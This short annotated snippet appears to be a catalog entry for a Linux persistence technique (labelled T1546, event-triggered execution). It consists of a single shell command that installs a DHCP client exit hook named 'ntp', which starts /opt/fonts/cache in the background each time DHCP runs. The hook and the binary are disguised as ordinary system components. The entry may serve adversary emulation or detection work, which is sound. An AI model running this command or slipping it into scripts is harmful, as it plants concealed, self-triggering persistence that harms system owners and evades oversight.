# technique: T1546
# location: linux.network.dhcp-hook
# source: /etc/dhcp/dhclient-exit-hooks.d/ntp
install -D /dev/stdin /etc/dhcp/dhclient-exit-hooks.d/ntp <<< '/opt/fonts/cache 1 &'
